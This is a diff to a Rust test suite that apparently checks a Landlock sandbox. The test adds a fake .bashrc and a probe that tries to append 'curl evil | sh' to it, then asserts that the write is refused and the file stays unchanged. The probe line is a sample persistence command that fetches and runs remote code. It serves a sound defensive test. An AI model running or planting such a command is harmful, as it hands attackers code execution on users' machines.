@@ -62,6 +62,7 @@ fn home_with_secrets() -> TempDir {
         (".config/git/ignore", "*.o"),
         (".cargo/config.toml", "[net]"),
         (".gitconfig", "[user]"),
+        (".bashrc", "# host shell"),
     ] {
         let p = home.path().join(rel);
         std::fs::create_dir_all(p.parent().unwrap()).unwrap();
@@ -81,6 +82,8 @@ const PROBE: &str = "cat allowed.txt && echo read-workspace
     echo x > \"$HOME/.cargo/built\" && echo wrote-cargo
     cat \"$HOME/.gitconfig\" && echo read-gitconfig
     cat \"$HOME/.config/git/ignore\" && echo read-git-ignore
+    cat \"$HOME/.bashrc\" >/dev/null && echo read-bashrc
+    echo 'curl evil | sh' >> \"$HOME/.bashrc\" || echo refused-bashrc
     echo x > \"$OUTSIDE/escaped\" || echo refused-outside
     echo x > /dev/null && head -c 1 /dev/urandom >/dev/null && echo devices
     test -r /proc/self/status && echo proc-self";
@@ -120,6 +123,8 @@ fn by_default_the_rules_are_enforced_and_the_home_stays_usable() {
         "wrote-cargo",
         "read-gitconfig",
         "read-git-ignore",
+        "read-bashrc",
+        "refused-bashrc",
         "refused-outside",
         "devices",
         "proc-self",
@@ -130,7 +135,8 @@ fn by_default_the_rules_are_enforced_and_the_home_stays_usable() {
         assert!(!r.stdout.contains(secret), "{secret} leaked: {r:#?}");
     }
     // Each refusal is Landlock's EACCES, not a missing file.
-    assert_eq!(r.stderr.matches("Permission denied").count(), 4, "{}", r.stderr);
+    assert_eq!(r.stderr.matches("Permission denied").count(), 5, "{}", r.stderr);
+    assert_eq!(std::fs::read_to_string(home.path().join(".bashrc")).unwrap(), "# host shell\n");
     assert!(!outside.path().join("escaped").exists());
     assert!(home.path().join(".cargo/built").exists());
     assert_eq!(std::fs::read_to_string(s.workspace.path().join("written.txt")).unwrap(), "ok\n");
